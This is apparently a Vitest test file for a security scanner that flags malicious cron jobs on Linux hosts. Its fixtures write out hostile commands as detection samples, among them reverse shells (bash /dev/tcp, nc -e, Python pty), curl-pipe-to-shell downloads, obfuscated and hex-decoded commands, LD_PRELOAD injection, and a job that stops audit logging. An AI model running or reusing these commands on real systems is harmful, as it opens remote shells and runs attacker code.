import { describe, expect, test } from 'vitest';
import { cronJobs } from '../../source/checks/cron-jobs.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const ask = (machine: Machine) => run(cronJobs, memoryHost(debian(['/etc/crontab', '/etc/cron.d/e2scrub_all', '/etc/cron.daily/dpkg', '/usr/sbin/anacron'], machine)));

describe('jobs of cron', () => {
	test("a lived-in server's own", () => {
		const { findings, coverage } = ask({
			'/etc/crontab': 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
			'/etc/cron.d/e2scrub_all': '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
			'/etc/cron.daily/dpkg': { content: '#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n', mode: 0o755 },
			'/etc/cron.d/backup': '5 2 * * * root /usr/local/sbin/backup.sh\n',
			'/usr/local/sbin/backup.sh': { content: '#!/bin/sh\nset -e\ntar czf /srv/backup/home.tgz /home\ncurl -fsS https://hc-ping.example/x\n', mode: 0o755 },
			'/var/spool/cron/crontabs/ann': '# m h\n*/10 * * * * $HOME/bin/fetch-mail >/dev/null 2>&1\n@daily /home/ann/gone.sh\n',
			'/etc/cron.d/pages': '@reboot ann python3 -m http.server 8080\n@reboot root cd /srv/www && python3 -m http.server\n',
			'/etc/cron.d/tunnel': '@reboot ann ssh -fN -R 2222:localhost:22 hub.example.org\n',
			'/home/ann/bin/fetch-mail': { content: '#!/bin/sh\nfetchmail\n', mode: 0o755, uid: 1000 },
		});
		expect(told(findings)).toEqual(['info /etc/cron.d/backup', 'low /etc/cron.d/tunnel']);
		expect(coverage.counts.files).toBeGreaterThan(4);
	});

	test('what a job runs tells: both are named', () => {
		const { findings } = ask({ '/etc/cron.d/sysupdate': '* * * * * root /var/tmp/.u/kworker -d\n', '/var/tmp/.u/kworker': { mode: 0o755, content: '\x7fELF' } });
		expect(findings).toMatchObject([
			{ severity: 'high', subject: { path: '/etc/cron.d/sysupdate' }, facts: { line: 1, program: '/var/tmp/.u/kworker', 'runs-as': 'root', command: '/var/tmp/.u/kworker -d' }, techniques: ['T1053.003', 'T1036.005', 'T1564.001'] },
		]);
	});

	test.each<[string, Machine, string]>([
		['a shell handed to the network', { '/var/spool/cron/crontabs/www-data': '* * * * * bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n' }, 'critical /var/spool/cron/crontabs/www-data'],
		['a download that is run', { '/etc/crontab': '*/5 * * * * root curl -s http://192.0.2.1/x | sh\n' }, 'high /etc/crontab'],
		['a script that hides the same', { '/etc/cron.d/x': '1 * * * * root /usr/local/bin/x\n', '/usr/local/bin/x': { content: '#!/bin/sh\n(curl -s http://192.0.2.1/x||wget -qO- http://192.0.2.1/x)|bash\n', mode: 0o755 } }, 'high /etc/cron.d/x'],
		['a script of a script', { '/etc/cron.daily/x': { content: '#!/bin/sh\n/opt/a/run\n', mode: 0o755 }, '/opt/a/run': { content: '#!/bin/bash\nnc -e /bin/sh 192.0.2.1 1\n', mode: 0o755 } }, 'critical /etc/cron.daily/x'],
		['Python that joins the two', { '/etc/cron.d/x': '1 * * * * root python3 /opt/m.py\n', '/opt/m.py': '#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' }, 'critical /etc/cron.d/x'],
		["root's home as pages", { '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n', '/etc/cron.d/x': '@reboot root python3 -m http.server 8080\n' }, 'high /etc/cron.d/x'],
		['jobs of Python', { '/var/spool/cron/crontabs/root': "SHELL=/usr/bin/python3\n*/30 * * * * print(1)\n" }, 'medium /var/spool/cron/crontabs/root'],
		['a job put together from what the table sets', { '/etc/cron.d/x': 'a=cu\nb=rl\n7 * * * * root $a$b -k http://192.0.2.1/x | $(which ba\'\'sh)\n' }, 'high /etc/cron.d/x'],
		['a job behind a carriage return', { '/etc/cron.d/x': '*/20 * * * * root /usr/share/misc/.m/upd #\r# m h dom mon dow user command          \n', '/usr/share/misc/.m/upd': { mode: 0o755, content: '\x7fELF' } }, 'high /etc/cron.d/x,high /etc/cron.d/x'],
		['a library for everything', { '/etc/cron.d/x': 'LD_PRELOAD=/dev/shm/l.so\n', '/dev/shm/l.so': '' }, 'high /etc/cron.d/x'],
		['a path anyone may fill', { '/etc/crontab': 'PATH=/tmp:/usr/bin\n' }, 'high /etc/crontab'],
		['a packaged script that was appended to', { '/etc/cron.daily/dpkg': { content: '#!/bin/sh\n/dev/shm/.x\n', mode: 0o755 }, '/dev/shm/.x': { mode: 0o755 } }, 'high /etc/cron.daily/dpkg'],
		['a command that is decoded into being', { '/etc/cron.d/x': '*/9 * * * * root $(echo 6375726c20 | xxd -r -p)\n' }, 'high /etc/cron.d/x'],
		['a tunnel back in from an address whose key nobody looked at', { '/etc/cron.d/x': '*/5 * * * * root ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 x@203.0.113.9\n' }, 'medium /etc/cron.d/x'],
		['logging stopped by the clock', { '/etc/cron.d/x': '* * * * * root systemctl stop auditd rsyslog\n' }, 'medium /etc/cron.d/x'],
		['a shell run on a text', { '/etc/cron.d/x': '* * * * * root /bin/sh /usr/share/doc/x/NEWS.txt\n' }, 'medium /etc/cron.d/x'],
		['jobs of root in a file of a person', { '/etc/cron.d/x': { content: '', uid: 1000 } }, 'high /etc/cron.d/x'],
		['jobs of root in a file anyone may write', { '/etc/crontab': { content: '', mode: 0o666 } }, 'high /etc/crontab'],
		['a script anyone may change', { '/etc/cron.hourly/x': { content: '#!/bin/sh\n', mode: 0o777 } }, 'high /etc/cron.hourly/x'],
		['a link to a temporary place', { '/etc/cron.hourly/x': { link: '/tmp/x' }, '/tmp/x': { content: '#!/bin/sh\n', mode: 0o755 } }, 'high /etc/cron.hourly/x'],
		['a program that is gone from a temporary place', { '/etc/cron.d/x': '@reboot root /tmp/.X11-unix/x\n' }, 'high /etc/cron.d/x'],
		['a program in a system folder that no package knows', { '/etc/cron.d/x': '@reboot root /usr/sbin/udevmond\n', '/usr/sbin/udevmond': { mode: 0o755 } }, 'high /etc/cron.d/x'],
		['a table of nobody', { '/var/spool/cron/crontabs/eve': '' }, 'low /var/spool/cron/crontabs/eve'],
		['RHEL: a table below the spool itself', { '/var/spool/cron/root': '* * * * * /dev/.a/b\n', '/dev/.a/b': { mode: 0o755 } }, 'high /var/spool/cron/root'],
		['a FIFO where a table belongs', { '/etc/cron.d/x': { kind: 'fifo' } }, 'medium /etc/cron.d/x'],
	])('%s', (_name, machine, expected) => {
		expect(told(ask(machine).findings).join()).toBe(expected);
	});

	test('what cannot be read is a gap', () => {
		expect(ask({ '/var/spool/cron/crontabs/': { kind: 'directory', unreadable: true } }).coverage.skipped).toMatchObject([{ reason: 'unreadable', examples: ['/var/spool/cron/crontabs'] }]);
	});
});
